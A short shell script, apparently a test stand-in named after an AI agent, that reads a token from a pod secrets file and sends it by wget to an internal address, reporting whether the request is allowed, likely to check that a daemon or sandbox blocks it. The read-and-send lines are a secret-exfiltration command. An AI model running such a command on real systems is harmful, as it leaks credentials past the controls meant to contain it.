#!/bin/sh
# Called claude, so an agent to the daemon: reads a secret of its pod and sends it.
sleep 2 # a real one takes as long to start
token=$(cat /run/secrets/provider/token)
echo "has read"
wget -q -O /dev/null "http://10.96.1.1:8080/$1?token=$token" && echo "went on" || echo "was refused"
sleep 1000000
